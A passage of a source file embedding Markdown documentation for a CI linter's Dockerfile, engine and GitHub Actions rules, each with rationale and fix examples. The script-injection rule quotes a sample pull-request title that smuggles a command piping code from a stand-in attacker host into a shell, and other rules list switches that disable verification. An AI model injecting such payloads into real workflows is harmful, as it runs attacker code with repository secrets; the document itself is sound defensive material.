Reports a `FROM` image whose language runtime or distribution release has reached end of life, at the image, from a dated table (as of 2026-11): Node.js 20 and older and the odd releases 21/23/25, Python 3.10 and older, Ruby 3.2 and older, Go 1.25 and older, PHP 8.1 and older, PostgreSQL 13 and older, Debian 11 (bullseye) and older (also in variant tags such as `-bullseye` and distroless `-debian11`), Ubuntu 20.04 and interim releases, Alpine 3.21 and older (also `-alpine3.21` variants); and the Bitnami images, which stopped receiving updates when Bitnami moved them to `bitnamilegacy` on 2025-08-28.

## Why
An end-of-life release gets no security fixes: every new CVE in the runtime or the OS stays open for good, and scanners flag the image forever.

## How to fix
Move to a supported release (the message names one) and let Renovate or Dependabot keep it current.

## Example
Reported:
```dockerfile
FROM node:20-slim
```
Not reported:
```dockerfile
FROM node:24-slim
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF032.md", text: ###"""
---
id: DF032
title: Certificate or signature verification disabled
kind: dockerfile
severity: error
tags: [security]
security-severity: 7.5
references:
  - "CIS Docker Benchmark v1.6.0, 4.11: Ensure only verified packages are installed"
  - https://curl.se/docs/sslcerts.html
  - https://pip.pypa.io/en/stable/topics/https-certificates/
  - https://nodejs.org/api/cli.html#node_tls_reject_unauthorizedvalue
equivalents:
  checkov: "CKV2_DOCKER_2, CKV2_DOCKER_3, CKV2_DOCKER_4, CKV2_DOCKER_5, CKV2_DOCKER_6, CKV2_DOCKER_7, CKV2_DOCKER_8, CKV2_DOCKER_9, CKV2_DOCKER_10, CKV2_DOCKER_11, CKV2_DOCKER_12, CKV2_DOCKER_13, CKV2_DOCKER_14, CKV2_DOCKER_16"
---
Reports switches that turn off TLS certificate or package signature checks, at the switch: `curl -k`/`--insecure`, `wget --no-check-certificate`, `pip --trusted-host`, `apt-get --allow-unauthenticated`/`--force-yes`, `apk --allow-untrusted`, `yum`/`dnf --nogpgcheck`, `rpm --nosignature`…, `npm config set strict-ssl false`, `git … http.sslVerify false`, and the variables `NODE_TLS_REJECT_UNAUTHORIZED=0`, `PYTHONHTTPSVERIFY=0`, `NPM_CONFIG_STRICT_SSL=false`, `GIT_SSL_NO_VERIFY`, `PIP_TRUSTED_HOST` in `ENV`, `ARG` or on a command.

## Why
Verification is what stops a network attacker or a compromised mirror from substituting what the build downloads and installs. Variables set with `ENV` also disable it for the running application.

## How to fix
Remove the switch and make the certificate or key trusted instead (install `ca-certificates` or the corporate CA, import the repository key).

## Example
Reported:
```dockerfile
RUN curl -k https://example.com/tool.tgz -o /tmp/tool.tgz
```
Not reported:
```dockerfile
RUN curl -fsSL https://example.com/tool.tgz -o /tmp/tool.tgz
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF033.md", text: ###"""
---
id: DF033
title: apt instead of apt-get
kind: dockerfile
severity: warning
tags: [reliability]
references:
  - https://manpages.debian.org/apt.8#SCRIPT_USAGE_AND_DIFFERENCES_FROM_OTHER_APT_TOOLS
  - https://docs.docker.com/build/building/best-practices/#apt-get
equivalents:
  hadolint: "DL3027"
  checkov: "CKV_DOCKER_9"
---
Reports `apt` running `install`, `update`, `upgrade`, `remove`, `purge`… in `RUN`, at `apt`. Read-only queries such as `apt list` are left alone.

## Why
`apt` is the interactive front end: its output and behaviour may change between releases and it prints "WARNING: apt does not have a stable CLI interface. Use with caution in scripts." `apt-get` is the stable interface for scripts.

## How to fix
Use `apt-get` (with `-y` and `--no-install-recommends`).

## Example
Reported:
```dockerfile
RUN apt update && apt install -y curl
```
Not reported:
```dockerfile
RUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF034.md", text: ###"""
---
id: DF034
title: Several COPY sources into a non-directory
kind: dockerfile
severity: error
tags: [reliability]
references:
  - https://docs.docker.com/reference/dockerfile/#destination
equivalents:
  hadolint: "DL3021"
---
Reports `COPY`/`ADD` with two or more sources whose destination (after substituting known variables) does not end with `/` (and is not `.` or `..`), at the destination.

## Why
Docker refuses the build: "When using COPY with more than one source file, the destination must be a directory and end with a /".

## How to fix
End the destination with `/`.

## Example
Reported:
```dockerfile
COPY package.json package-lock.json /app
```
Not reported:
```dockerfile
COPY package.json package-lock.json /app/
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF035.md", text: ###"""
---
id: DF035
title: Final USER is a name or a low UID
kind: dockerfile
severity: note
tags: [security]
references:
  - "CIS Docker Benchmark v1.6.0, 4.1: Ensure that a user for the container has been created"
  - https://kubernetes.io/docs/concepts/security/pod-security-standards/
  - https://kubernetes.io/docs/tasks/configure-pod-container/security-context/
---
Reports the final image's last `USER` (from the final stage or the stages it is built on) when it names the user (`USER app`) or gives a UID of 10000 or less, at the user. `root`/`0` is DF001's finding; a user given through a variable with no value known in the file is not judged.

## Why
Kubernetes' `runAsNonRoot` can only check a numeric UID: with `USER app` the kubelet refuses to start the pod ("cannot verify user is non-root"). Low UIDs (1000, 999) are those of real accounts on most hosts, so a process that escapes the container acts as that account; scanners such as Trivy and kube-score want UIDs above 10000, and one UID should be used across the Dockerfile and every `securityContext`.

## How to fix
Create the user with a fixed UID and GID above 10000 and switch to it by number.

## Example
Reported:
```dockerfile
RUN useradd -u 1000 app
USER app
```
Not reported:
```dockerfile
RUN useradd -l -u 10001 -U app
USER 10001:10001
```
"""###),
        EmbeddedDocument(path: "Rules/engine/SQ001.md", text: ###"""
---
id: SQ001
title: File does not parse
kind: engine
severity: error
tags: [reliability]
references:
  - https://docs.docker.com/reference/dockerfile/
  - https://yaml.org/spec/1.2.2/
---
The file could not be read as its kind (a Dockerfile, a YAML file such as compose, Kubernetes or a GitHub
workflow) because of a syntax error or because it is not UTF-8 text, so none of that kind's rules ran on it.

## Why
A file the linter cannot parse is a file no tool in the pipeline can trust: `docker build`, `docker compose`,
`kubectl` and GitHub Actions reject it or, worse, read something other than what the author meant. Every other
check is silent on such a file, so the parse error itself must fail the run. The finding points at the first
place the parser gave up; the run goes on with the other files.

Parser warnings that do not stop parsing (for example a duplicated YAML key, where the last value silently wins)
are reported under the same id at their own, lower severity.

## How to fix
Fix the syntax at the reported position (the message quotes the parser), or save the file as UTF-8 when the
message says it is not UTF-8 text. A file that is deliberately not valid (a template rendered later, a test
fixture) can be excluded in `.specql-deploy.yml` (`exclude:`) or silenced with
`# specql-deploy ignore-file=SQ001 reason="…"`.

## Example
A compose file whose indentation breaks the YAML:

```yaml
services:
  web:
    image: nginx:1.27
   ports: ["8080:80"]    # SQ001: does not parse
```

Fixed:

```yaml
services:
  web:
    image: nginx:1.27
    ports: ["8080:80"]
```
"""###),
        EmbeddedDocument(path: "Rules/engine/SQ002.md", text: ###"""
---
id: SQ002
title: Suppression without a reason
kind: engine
severity: note
tags: [maintainability]
references:
  - https://docs.astral.sh/ruff/rules/blanket-noqa/
---
A `specql-deploy ignore=…` or `ignore-file=…` comment does not say why the finding does not apply:
it has no `reason="…"`.

## Why
A suppression is a decision that a finding is wrong or acceptable here. Without the reason, the next reader
cannot tell a deliberate, reviewed exception from a shortcut taken to make CI pass, and cannot tell when the
exception stops being true. The reason also travels into SARIF (`suppressions[].justification`), where code
scanning shows it next to the dismissed alert.

## How to fix
Add a reason in double quotes after the rule ids:

```dockerfile
# specql-deploy ignore=DF001 reason="the base image's entrypoint drops to uid 10001 itself"
FROM example/app:1.4
```

## Example
Reported:

```dockerfile
# specql-deploy ignore=DF001
FROM example/app:1.4
```

Fixed: the same comment with `reason="…"` as above.
"""###),
        EmbeddedDocument(path: "Rules/engine/SQ003.md", text: ###"""
---
id: SQ003
title: Unused suppression
kind: engine
severity: note
tags: [maintainability]
references:
  - https://docs.astral.sh/ruff/rules/unused-noqa/
---
A suppression comment silences nothing: no finding of the named rule is on the line it covers (or in the file
for `ignore-file=`), the id is not a rule at all, or the rule belongs to another kind of file.

## Why
Suppressions outlive the code they were written for. Once the offending line is fixed or moved, a stale
suppression silently waits to hide the next, unrelated finding on that line, and a misspelt id never suppressed
anything in the first place. Reporting unused suppressions keeps every exception in the code real.

A suppression of a rule that did not run on the file (disabled in `.specql-deploy.yml`, or excluded for the
path) is not reported: it may be needed again when the rule is turned back on.

## How to fix
Remove the id from the comment (or the whole comment when it names nothing else). When the id is misspelt,
correct it; `specql-deploy rules` lists every id. An own-line comment covers the statement that follows it
(a Dockerfile instruction with its continuation lines), an end-of-line comment the statement it ends.

## Example
Reported: `DF999` is not a rule id, so the comment silences nothing.

```dockerfile
# specql-deploy ignore=DF999 reason="legacy image"
FROM python:3.13-slim
```

Fixed: the comment is removed, or names the rule that actually reports the finding.
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA001.md", text: ###"""
---
id: GHA001
title: Action not pinned to a commit SHA
kind: github-workflow
severity: warning
tags: [security]
security-severity: 6.5
references:
  - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions
  - https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idstepsuses
equivalents:
  zizmor: unpinned-uses
---
Reports a step `uses:` or a reusable-workflow `uses:` whose ref is not a full 40-character commit SHA, at the ref. Actions owned by `actions` and `github` are reported as notes; other owners as warnings. An abbreviated SHA is reported with its own message. `docker://` images without an `@sha256:` digest are reported as notes; local actions (`./…`) are not reported.

## Why
A tag or branch is a pointer that the action's owner — or anyone who takes over their account or repository — can move. The moved code runs with the job's `GITHUB_TOKEN` and every secret the job can read, as in the 2025 `tj-actions/changed-files` compromise. A full commit SHA cannot be moved; an abbreviated one can collide with a commit pushed to a fork.

## How to fix
Pin to the full commit SHA of the release and keep the version in a comment for humans and update bots: `uses: owner/action@<40-hex-sha> # v2.3.1`. Dependabot and Renovate update such pins.

## Example
Reported:
```yaml
steps:
  - uses: someorg/deploy-action@v2
```
Not reported:
```yaml
steps:
  - uses: someorg/deploy-action@0123456789abcdef0123456789abcdef01234567 # v2.3.1
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA002.md", text: ###"""
---
id: GHA002
title: Untrusted checkout in a privileged workflow
kind: github-workflow
severity: error
tags: [security]
security-severity: 9.0
references:
  - https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/
  - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
  - https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#pull_request_target
equivalents:
  zizmor: dangerous-triggers
---
In a workflow triggered by `pull_request_target` or `workflow_run`, reports an `actions/checkout` step whose `ref` or `repository` reads the pull request's head (`github.event.pull_request.head.sha`/`.ref`, `github.head_ref`, `github.event.workflow_run.head_sha`/`head_branch`/`head_repository`, `refs/pull/…`), at the input's value, and a `run:` script that runs `gh pr checkout` or a git command on such a ref. A job or step `if:` that admits only same-repository heads (`head.repo.full_name == github.repository`, `head.repo.fork == false`) or one PR author (`github.event.pull_request.user.login == …`) lowers the finding to a note; `github.actor` checks do not (a re-run or a bot's update changes the actor, not the code).

## Why
These triggers run in the context of the base repository: a write-capable `GITHUB_TOKEN` and the repository's secrets are available even for pull requests from forks. Checking out the fork's code and then building, installing or testing it (build scripts, `npm install` hooks, test files) runs the attacker's code with those privileges — the "pwn request".

## How to fix
Check out only the base commit in `pull_request_target`/`workflow_run` workflows. Do the work on untrusted code in a `pull_request` workflow (no secrets, read-only token) and pass results to the privileged workflow through artifacts that are treated as data.

## Example
Reported:
```yaml
on: pull_request_target
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v5
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm test
```
Not reported:
```yaml
on: pull_request
jobs:
  test:
    runs-on: ubuntu-24.04
    permissions: { contents: read }
    steps:
      - uses: actions/checkout@v5
      - run: npm ci && npm test
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA003.md", text: ###"""
---
id: GHA003
title: Script injection from untrusted input
kind: github-workflow
severity: error
tags: [security]
security-severity: 9.0
references:
  - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
  - https://securitylab.github.com/resources/github-actions-untrusted-input/
equivalents:
  zizmor: template-injection
  actionlint: expression
  checkov: CKV_GHA_2
---
Reports a `${{ … }}` expression in a `run:` script or in the `script` input of `actions/github-script` that expands attacker-controlled text: titles, bodies and messages of issues, pull requests, comments, reviews, discussions and commits, commit author names and e-mails, `github.head_ref`, `pull_request.head.ref`/`.label`, `workflow_run.head_branch` and the like — at the expression, with exact columns in block scalars. Values that only feed a test (`contains(…)`, `==`, `!`) are not reported. Free-text inputs of `workflow_dispatch`/`workflow_call` (`inputs.x`, `github.event.inputs.x`, untyped or `type: string`) are reported as notes: only people who can run or call the workflow choose them; `choice`, `boolean`, `number` and `environment` inputs are not reported.

## Why
`${{ }}` is substituted into the script text before the shell runs it. A pull request titled `a"; curl https://evil.example/x | sh; echo "` turns into shell code that runs with the job's token and secrets. Quoting in the script cannot help: the substitution happens before parsing.

## How to fix
Pass the value through an environment variable and quote it in the script: `env: { TITLE: ${{ github.event.pull_request.title }} }` and `echo "$TITLE"`. In github-script, read `context.payload` instead of interpolating.

## Example
Reported:
```yaml
on: issues
jobs:
  triage:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "New issue - ${{ github.event.issue.title }}"
```
Not reported:
```yaml
on: issues
jobs:
  triage:
    runs-on: ubuntu-24.04
    steps:
      - env:
          TITLE: ${{ github.event.issue.title }}
        run: echo "New issue - $TITLE"
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA004.md", text: ###"""
---
id: GHA004
title: Job runs with default token permissions
kind: github-workflow
severity: warning
tags: [security]
security-severity: 5.0
references:
  - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-secrets
  - https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token
equivalents:
  zizmor: excessive-permissions
---
When the workflow has no top-level `permissions:`, reports each job that sets none either, at the job's id. Workflows triggered only by `workflow_call` are skipped: their token is bounded by the caller's permissions.

## Why
Without `permissions:` the token gets the repository's or organization's default, which for many repositories (all created before February 2023) is read/write on contents, packages, issues, pull requests and more. Any step — or any compromised action — can then push commits, publish packages or rewrite releases.

## How to fix
Declare the least privilege at the top, `permissions: { contents: read }`, and grant more per job where needed (`packages: write` for the job that publishes).

## Example
Reported:
```yaml
on: push
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: make
```
Not reported:
```yaml
on: push
permissions:
  contents: read
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: make
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA005.md", text: ###"""
---
id: GHA005
title: write-all permissions
kind: github-workflow
severity: error
tags: [security]
security-severity: 7.0
references:
  - https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#permissions
  - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-secrets
equivalents:
  zizmor: excessive-permissions
  checkov: CKV2_GHA_1
---
Reports `permissions: write-all` at the workflow or job level, at the value.

## Why
`write-all` grants the token write access to every scope: contents, packages, actions, deployments, issues, pull requests, security events and more. Whatever runs in the job — including every action and its dependencies — can modify the repository and publish under its name.

## How to fix
List only the scopes the job needs, each at the lowest level: `permissions: { contents: read, packages: write }`.

## Example
Reported:
```yaml
permissions: write-all
```
Not reported:
```yaml
permissions:
  contents: read
  packages: write
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA006.md", text: ###"""
---
id: GHA006
title: Checkout credentials uploaded in an artifact
kind: github-workflow
severity: warning
tags: [security]
security-severity: 7.5
references:
  - https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/
  - https://github.com/actions/checkout#usage
  - https://github.com/actions/upload-artifact#uploading-hidden-files
equivalents:
  zizmor: artipacked
---
In a job that uploads an artifact with `actions/upload-artifact` able to contain the checkout's `.git` directory — hidden files included (`include-hidden-files: true`, or upload-artifact before v4.4) and a path that covers the workspace or the checkout (`.`, `*`, `${{ github.workspace }}`, the checkout's `path`, or a `.git` path) — reports each `actions/checkout` before v6 that does not set `persist-credentials: false`, at its `uses`, with the upload as related location. Checkout v6 and later keep the credential outside `.git/config` and are not reported. The brief's broader form (any checkout in a workflow that uploads anything) is deliberately narrowed to the uploads that can really carry the token.

## Why
Before v6, `actions/checkout` writes the job's token into `.git/config`. An artifact that includes the repository directory then publishes the token to everyone who can download artifacts — for a public repository, everyone ("ArtiPACKED").

## How to fix
Set `persist-credentials: false` on the checkout (and pass a token explicitly to the steps that push), upload only the build output directory, and leave `include-hidden-files` off.

## Example
Reported:
```yaml
steps:
  - uses: actions/checkout@v4
  - uses: actions/upload-artifact@v4
    with:
      name: workspace
      path: .
      include-hidden-files: true
```
Not reported:
```yaml
steps:
  - uses: actions/checkout@v5
    with:
      persist-credentials: false
  - uses: actions/upload-artifact@v6
    with:
      name: dist
      path: dist/
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA007.md", text: ###"""
---
id: GHA007
title: Secret expanded into a run script
kind: github-workflow
severity: warning
tags: [security]
security-severity: 6.0
references:
  - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-secrets
  - https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions#using-secrets-in-a-workflow
---
Reports a `${{ secrets.X }}` or `${{ github.token }}` expansion inside a `run:` script, at the expression; the message says when the line prints it (`echo`, `printf`).

## Why
The expansion writes the secret into the generated script file on the runner and into the arguments of the commands that receive it, visible to other processes; a quote or `$` in the secret breaks or injects into the command; printed values slip past the log mask as soon as they are transformed (base64, URL-encoded, split). GitHub's own guidance is to pass secrets through environment variables.

## How to fix
Map the secret into `env:` and reference the variable: `env: { API_TOKEN: ${{ secrets.API_TOKEN }} }` and `curl -H "Authorization: Bearer $API_TOKEN"`. Prefer tools that read credentials from the environment or a file over command-line flags.

## Example
Reported:
```yaml
steps:
  - run: curl -u admin:${{ secrets.ADMIN_PASSWORD }} https://example.com/api
```
Not reported:
```yaml
steps:
  - env:
      ADMIN_PASSWORD: ${{ secrets.ADMIN_PASSWORD }}
    run: curl -u "admin:$ADMIN_PASSWORD" https://example.com/api
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA008.md", text: ###"""
---
id: GHA008
title: Unsecure workflow commands enabled
kind: github-workflow
severity: error
tags: [security]
security-severity: 8.0
references:
  - https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/
  - https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#environment-files
equivalents:
  zizmor: insecure-commands
  checkov: CKV_GHA_1
---
Reports `ACTIONS_ALLOW_UNSECURE_COMMANDS` set in a workflow, job or step `env:` (unless its value is `false`), at the entry, and every mention of it in a `run:` script (`echo "ACTIONS_ALLOW_UNSECURE_COMMANDS=true" >> $GITHUB_ENV`), at the name.

## Why
The variable re-enables the `::set-env` and `::add-path` workflow commands, which GitHub disabled (CVE-2020-15228) because anything a step prints — a test name, a dependency's log line, a pull request title echoed by a script — could set environment variables such as `LD_PRELOAD` or `NODE_OPTIONS` and prepend directories to PATH for every later step.

## How to fix
Remove it and write to the environment files: `echo "NAME=value" >> "$GITHUB_ENV"`, `echo "$DIR" >> "$GITHUB_PATH"`.

## Example
Reported:
```yaml
env:
  ACTIONS_ALLOW_UNSECURE_COMMANDS: true
```
Not reported:
```yaml
steps:
  - run: echo "$HOME/.local/bin" >> "$GITHUB_PATH"
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA009.md", text: ###"""
---
id: GHA009
title: Job without timeout-minutes
kind: github-workflow
severity: note
tags: [cost, reliability]
references:
  - https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idtimeout-minutes
---
Reports a job with steps and no `timeout-minutes`, at the job's id. Jobs that call a reusable workflow are skipped (they cannot set it).

## Why
A hung test, a prompt waiting for input or a deadlocked build keeps the job running until GitHub's default limit of 360 minutes: six hours of runner time (billed for private repositories and larger runners) and a blocked merge queue.

## How to fix
Set `timeout-minutes` a little above the job's usual duration.

## Example
Reported:
```yaml
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: make test
```
Not reported:
```yaml
jobs:
  test:
    runs-on: ubuntu-24.04
    timeout-minutes: 20
    steps:
      - run: make test
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA010.md", text: ###"""
---
id: GHA010
title: Deployment without concurrency
kind: github-workflow
severity: warning
tags: [reliability]
references:
  - https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/control-the-concurrency-of-workflows-and-jobs
  - https://docs.github.com/en/actions/managing-workflow-runs-and-deployments/managing-deployments/managing-environments-for-deployment
---
Reports a deploying job when neither it nor the workflow sets `concurrency`, at the job's id. A job deploys when it targets an `environment`, when its id or name contains the word deploy/deployment without a test word (`deploy`, `build-and-deploy` — not `deployment-tests`), or when a step uses a well-known deploy action (`actions/deploy-pages`, `azure/webapps-deploy`, `google-github-actions/deploy-cloudrun`, `aws-actions/amazon-ecs-deploy-task-definition`, `cloudflare/wrangler-action`…).

## Why
Two pushes in quick succession start two deployments that run at the same time: they race on migrations and infrastructure state, and the older commit can finish last and stay live.

## How to fix
Serialize deployments per target with `concurrency: { group: deploy-${{ github.ref }}, cancel-in-progress: false }` (queue rather than cancel a deployment half-way).

## Example
Reported:
```yaml
jobs:
  deploy:
    runs-on: ubuntu-24.04
    environment: production
    steps:
      - run: ./deploy.sh
```
Not reported:
```yaml
jobs:
  deploy:
    runs-on: ubuntu-24.04
    environment: production
    concurrency:
      group: deploy-production
      cancel-in-progress: false
    steps:
      - run: ./deploy.sh
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA011.md", text: ###"""
---
id: GHA011
title: Hard-coded credential
kind: github-workflow
severity: error
tags: [security]
security-severity: 8.0
references:
  - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-secrets
  - https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions
equivalents:
  actionlint: credentials
  zizmor: hardcoded-container-credentials
---
Reports a literal value for a credential-named entry in workflow, job, step or container `env:`, in a step's or reusable-workflow call's `with:` (`password`, `token`, `api-key`…), in a call's `secrets:`, or in container/service `credentials.password`, at the value (redacted in every output). Not reported: expressions (`${{ secrets.X }}`), empty values, booleans, placeholders, names that describe a credential (`token-format`, `PASSWORD_FILE`), and the environment of service containers (a CI database that lives only for the job) together with the same values where the job connects to them.

## Why
A credential in a workflow file is readable by everyone with read access to the repository — for a public repository, the world — and stays in the history and every fork after it is removed.

## How to fix
Store it as an encrypted secret (repository, environment or organization) and reference it: `password: ${{ secrets.REGISTRY_PASSWORD }}`. Prefer OIDC (`id-token: write`) over long-lived cloud keys.

## Example
Reported:
```yaml
steps:
  - uses: docker/login-action@0123456789abcdef0123456789abcdef01234567 # v3.4.0
    with:
      username: ci
      password: hunter2-ci
```
Not reported:
```yaml
steps:
  - uses: docker/login-action@0123456789abcdef0123456789abcdef01234567 # v3.4.0
    with:
      username: ci
      password: ${{ secrets.REGISTRY_PASSWORD }}
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA012.md", text: ###"""
---
id: GHA012
title: Self-hosted runner on pull requests
kind: github-workflow
severity: warning
tags: [security]
security-severity: 7.0
references:
  - https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security
  - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#hardening-for-self-hosted-runners
equivalents:
  zizmor: self-hosted-runner
---
In a workflow triggered by `pull_request`, reports a job whose `runs-on` includes the `self-hosted` label, at the label.

## Why
In a public repository anyone can open a pull request from a fork and have its code run on the runner. Self-hosted runners persist between jobs (caches, credentials, background processes survive) and sit inside your network, so one malicious pull request can compromise later jobs and reach internal systems. GitHub recommends against self-hosted runners for public repositories.

## How to fix
Run pull-request jobs on GitHub-hosted runners. If self-hosted runners are required, use ephemeral, isolated runners (`--ephemeral`, one VM per job) in a dedicated runner group, and require approval for workflows from outside collaborators.

## Example
Reported:
```yaml
on: pull_request
jobs:
  test:
    runs-on: [self-hosted, linux]
    steps:
      - run: make test
```
Not reported:
```yaml
on: pull_request
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: make test
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA013.md", text: ###"""
---
id: GHA013
title: Action runs on the removed node20 runtime
kind: github-workflow
severity: warning
tags: [reliability]
references:
  - https://github.blog/changelog/2025-09-19-deprecation-of-node-20-on-github-actions-runners/
  - https://github.com/actions/checkout/releases/tag/v5.0.0
  - https://github.com/actions/upload-artifact/releases/tag/v6.0.0
  - https://github.com/actions/download-artifact/releases/tag/v7.0.0
equivalents:
  actionlint: action
---
Reports a step that uses a well-known action at a major version that runs on node20, at the ref. The dated table (checked in 2026 against each action's releases) gives the first node24 major: `actions/checkout` v5, `actions/setup-node` v5, `actions/setup-python` v6, `actions/setup-go` v6, `actions/setup-java` v5, `actions/setup-dotnet` v5, `actions/cache` v5, `actions/upload-artifact` v6, `actions/download-artifact` v7, `actions/github-script` v8, `docker/build-push-action` v7. A SHA pin is judged by its version comment (`@<sha> # v4.2.2`); a SHA without one is not judged.

## Why
GitHub forced JavaScript actions onto Node 24 in June 2026 and removed Node 20 from its hosted runners in September 2026. Actions built for node20 now run on a runtime they were never tested with, and self-hosted runners upgraded past the removal refuse them. actionlint only checks tag-pinned actions against an older table, and zizmor not at all.

## How to fix
Move to the node24 major of the action (read its release notes for breaking changes: checkout v6 moved persisted credentials out of `.git/config`, upload-artifact v4.4+ skips hidden files).

## Example
Reported:
```yaml
steps:
  - uses: actions/checkout@v4
  - uses: actions/setup-node@v4
```
Not reported:
```yaml
steps:
  - uses: actions/checkout@v5
  - uses: actions/setup-node@v5
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA014.md", text: ###"""
---
id: GHA014
title: "secrets: inherit"
kind: github-workflow
severity: note
tags: [security]
security-severity: 4.0
references:
  - https://docs.github.com/en/actions/sharing-automations/reusing-workflows#passing-secrets-to-nested-workflows
equivalents:
  zizmor: secrets-inherit
---
Reports `secrets: inherit` on a job that calls a reusable workflow, at the value.

## Why
`inherit` passes every repository, environment and organization secret the caller can see to the called workflow, whatever it declares. A compromise of that workflow, of a workflow it calls, or of any action they use then exposes all of them.

## How to fix
Pass the secrets the called workflow declares, one by one: `secrets: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }`.

## Example
Reported:
```yaml
jobs:
  release:
    uses: example/workflows/.github/workflows/release.yml@0123456789abcdef0123456789abcdef01234567
    secrets: inherit
```
Not reported:
```yaml
jobs:
  release:
    uses: example/workflows/.github/workflows/release.yml@0123456789abcdef0123456789abcdef01234567
    secrets:
      NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA015.md", text: ###"""
---
id: GHA015
title: "if: condition is always true"
kind: github-workflow
severity: error
tags: [reliability]
references:
  - https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/evaluate-expressions-in-workflows-and-actions#about-expressions
  - https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idif
equivalents:
  actionlint: if-cond
---
Reports a job or step `if:` that contains `${{ … }}` together with other text (or several expressions), at the value.

## Why
When `if:` is not one expression, GitHub evaluates the text as a string with the expressions substituted; any non-empty string is true. `if: ${{ github.event_name }} == 'push'` becomes `push == 'push'` or `pull_request == 'push'` — both true — so the guarded step always runs, deployment steps included.

## How to fix
Put the whole condition inside one expression (`if: ${{ github.event_name == 'push' }}`) or write it without `${{ }}` (`if: github.event_name == 'push'`).

## Example
Reported:
```yaml
steps:
  - if: ${{ github.ref }} == 'refs/heads/main'
    run: ./deploy.sh
```
Not reported:
```yaml
steps:
  - if: github.ref == 'refs/heads/main'
    run: ./deploy.sh
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA016.md", text: ###"""
---
id: GHA016
title: Deprecated workflow command
kind: github-workflow
severity: warning
tags: [security, maintainability]
security-severity: 5.0
references:
  - https://github.blog/changelog/2022-10-11-github-actions-deprecating-save-state-and-set-output-commands/
  - https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#environment-files
equivalents:
  actionlint: deprecated-commands
---
Reports `::set-output`, `::save-state` (deprecated) and `::set-env`, `::add-path` (disabled; reported as errors) printed by a `run:` script, at the command with exact columns.

## Why
Workflow commands are parsed from everything a step prints: any output that contains one — a test name, a file's content, a pull request title echoed by the script — can forge outputs or state. `set-env` and `add-path` were disabled for this reason and fail the step; `set-output` and `save-state` print deprecation warnings and are scheduled for removal.

## How to fix
Append to the environment files: `echo "name=value" >> "$GITHUB_OUTPUT"`, `>> "$GITHUB_STATE"`, `>> "$GITHUB_ENV"`, `>> "$GITHUB_PATH"`.

## Example
Reported:
```yaml
steps:
  - id: version
    run: echo "::set-output name=version::$(cat VERSION)"
```
Not reported:
```yaml
steps:
  - id: version
    run: echo "version=$(cat VERSION)" >> "$GITHUB_OUTPUT"
```
"""###),
        EmbeddedDocument(path: "Rules/github-workflow/GHA017.md", text: ###"""
---
id: GHA017
title: Retired runner image
kind: github-workflow
severity: error
tags: [reliability]
references:
  - https://github.com/actions/runner-images#available-images
  - https://github.com/actions/runner-images/issues/11101
  - https://github.com/actions/runner-images/issues/12045
  - https://github.com/actions/runner-images/issues/14254
equivalents:
  actionlint: runner-label
---
